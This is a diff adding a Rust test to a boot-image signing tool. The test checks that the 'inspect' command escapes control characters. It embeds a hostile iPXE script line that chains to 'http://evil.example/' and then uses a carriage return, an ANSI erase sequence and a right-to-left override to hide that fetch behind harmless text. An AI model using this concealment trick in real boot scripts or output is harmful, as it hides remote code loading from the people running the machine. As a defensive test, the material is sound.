@@ -378,3 +378,39 @@ fn encrypted_client_keys_need_their_passphrase() {
     ]);
     assert!(env.ok(&["inspect", "bootsign.efi"]).contains("client key   present (not shown)"));
 }
+
+#[test]
+fn inspect_shows_script_control_characters_escaped() {
+    let env = Env::new();
+    pki(&env);
+    // A line that, printed raw, would return to the start of the line and erase it,
+    // hiding the `chain` it carries behind the harmless text that follows.
+    env.write("hostile.ipxe", "#!ipxe\nchain http://evil.example/\r\x1b[2Kecho \\x1b safe\u{202e}\ndhcp\n");
+    env.ok(&["build", "--efi", "--trust", "ca.crt", "--embed", "hostile.ipxe"]);
+    let out = env.ok(&["inspect", "bootsign.efi"]);
+    assert!(!out.contains('\x1b') && !out.contains('\r') && !out.contains('\u{202e}'), "{out:?}");
+    let script: Vec<&str> = out.lines().skip_while(|l| *l != "script").skip(1).collect();
+    assert_eq!(
+        script,
+        ["  #!ipxe", "  chain http://evil.example/\\r\\x1b[2Kecho \\\\x1b safe\\u{202e}", "  dhcp",],
+        "{out}"
+    );
+    // Settings and the crosscert URL of a hand-made configuration (`build` only writes
+    // values it checked).
+    let cfg = bootsign_config::Config {
+        settings: vec![("tls-min\x1b[8m", "1.2\r")],
+        crosscert: Some("http://ca.example/\u{2066}x"),
+        script: Some("#!ipxe\n"),
+        ..Default::default()
+    };
+    let image = bootsign_pe::add_section(
+        bootsign::firmware::TEMPLATE,
+        bootsign_pe::CONFIG_SECTION,
+        &cfg.encode().unwrap(),
+    )
+    .unwrap();
+    env.write("made.efi", image);
+    let out = env.ok(&["inspect", "made.efi"]);
+    assert!(out.contains("\n  tls-min\\x1b[8m=1.2\\r\n"), "{out}");
+    assert!(out.contains("\ncrosscert    http://ca.example/\\u{2066}x\n"), "{out}");
+}
